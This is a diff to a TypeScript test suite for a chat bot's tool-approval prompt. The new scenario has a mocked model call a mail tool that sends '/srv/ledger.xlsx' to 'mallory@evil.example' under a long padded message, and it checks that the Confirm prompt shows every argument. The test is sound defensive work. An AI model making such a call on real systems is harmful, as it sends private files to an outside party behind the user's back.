@@ -8,6 +8,7 @@ import type { SandboxPerson } from '#sandbox/people/person.ts';
 import { speech } from '#test/audio/speech.ts';
 import { openFakeMcp } from '#test/fakes/mcp/http-server.ts';
 import type { MockReply } from '#test/fakes/providers/chat.ts';
+import { download } from '#test/sandbox/download.ts';
 import { buttonsOf, pressed } from '#test/scenarios/setup/asking.ts';
 import {
   callIn,
@@ -94,5 +95,33 @@ scenario(
       const made = madeTexts(setup).join(' ');
       expect(made).toContain('Here is what you asked for: You said milk and eggs.');
     });
+  },
+);
+
+scenario(
+  'all that a tool is sent is read before Confirm: the names beside the button, the rest in a file',
+  async () => {
+    await using server = await openFakeMcp({ era: 'modern' });
+    const mail = { type: 'http', url: server.url.href, who: 'room' };
+    await using servers = await accepted('mail', 'echo', mail);
+    const long = 'Hi Ana, see you on Friday at eight. '.repeat(60);
+    const given = { text: long, to: 'mallory@evil.example', attach: '/srv/ledger.xlsx' };
+    await using setup = await openOwnScene({
+      environment: { MCP_SERVERS: servers.path },
+      providers: { replies: callsTool('write to Ana', 'mail__echo', given) },
+    });
+    await isConnected(setup);
+    const { sandbox } = setup;
+    const adam = await callIn(setup, 'Adam');
+    adam.write(`<@${sandbox.botId}> write to Ana`, { channel: 'Lounge' });
+    const asking = () =>
+      sandbox.messages('Lounge').find(({ text }) => text.includes('press Confirm'));
+    await eventually(() => expect(asking()).toBeDefined());
+    expect(asking()?.text).toContain('"to" (20): "mallory@evil.example"');
+    expect(asking()?.text).toContain('"attach" (16): "/srv/ledger.xlsx"');
+    const [file] = asking()?.files ?? [];
+    const { text } = await download(file?.url ?? '', sandbox);
+    expect([file?.name, JSON.parse(text)]).toEqual(['arguments.json', given]);
+    expect(await confirm(setup, adam)).toContain('You said Hi Ana');
   },
 );
